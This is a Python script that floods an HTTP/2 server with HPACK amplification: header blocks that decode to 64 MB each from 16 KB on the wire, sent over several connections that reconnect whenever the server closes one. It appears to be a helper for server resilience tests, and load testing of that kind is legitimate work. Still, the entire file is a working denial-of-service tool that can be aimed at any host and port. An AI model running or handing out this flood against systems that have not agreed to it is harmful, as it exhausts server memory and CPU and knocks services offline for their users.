#!/usr/bin/env python3
"""h2-hpack-flood.py HOST PORT SECONDS [CONNS] - HPACK amplification against an HTTP/2
server, for SECONDS: CONNS connections at once (default 4), each sending the HTTP/2
preface and then header blocks that add a 4000-byte field to the dynamic table and
name it again 16000 times (16 KB on the wire, 64 MB decoded), one after another, as
long as the server reads them; a connection the server closes is opened again at once.
Prints "flooding" once the first connection is open, and at the end (SECONDS, or
SIGTERM) "connections N blocks N" (connections opened, blocks sent). Bounded:
SECONDS, and 5 s per connect. For test-rpm-hpack.sh and test-rpm-attack.sh."""
import select
import signal
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REFS = 16000


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def block():
    # :method GET, :scheme http, :path / from the static table; "x-a" with 4000 'a'
    # as a literal with incremental indexing (new name): dynamic index 62; then 62
    # again REFS times
    b = bytes([0x82, 0x86, 0x84, 0x40, 3]) + b"x-a"
    b += bytes([0x7f, (4000 - 127) % 128 | 0x80, (4000 - 127) // 128]) + b"a" * 4000
    return b + bytes([0x80 | 62]) * REFS


def request(stream, hdr):
    # one HEADERS frame of at most 16384 bytes (the default max frame size), the rest
    # in CONTINUATION frames; END_STREAM on the HEADERS, END_HEADERS on the last
    out, first = b"", True
    while hdr or first:
        piece, hdr = hdr[:16384], hdr[16384:]
        flags = (0x1 if first else 0) | (0x4 if not hdr else 0)
        out += frame(0x1 if first else 0x9, flags, stream, piece)
        first = False
    return out


def main():
    host, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    nconns = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    hdr = block()
    end = time.monotonic() + secs

    def stop(signum, frame):
        nonlocal end
        end = 0

    signal.signal(signal.SIGTERM, stop)
    conns = {}  # socket -> [stream id, bytes left to send]
    opened = blocks = 0

    def connect():
        nonlocal opened
        try:
            s = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.01)
            return
        s.setblocking(False)
        if not opened:
            print("flooding", flush=True)
        opened += 1
        conns[s] = [1, PREFACE + frame(0x4, 0, 0, b"")]

    while time.monotonic() < end:
        while len(conns) < nconns and time.monotonic() < end:
            connect()
        try:
            r, w, _ = select.select(list(conns), list(conns), [], 0.1)
        except InterruptedError:
            continue
        for s in r:
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                conns.pop(s, None)
                s.close()
        for s in w:
            st = conns.get(s)
            if st is None:
                continue
            if not st[1]:
                st[1] = request(st[0], hdr)
                st[0] += 2
                blocks += 1
            try:
                n = s.send(st[1])
                st[1] = st[1][n:]
            except BlockingIOError:
                pass
            except OSError:
                conns.pop(s, None)
                s.close()
    for s in conns:
        s.close()
    print("connections", opened, "blocks", blocks)


main()
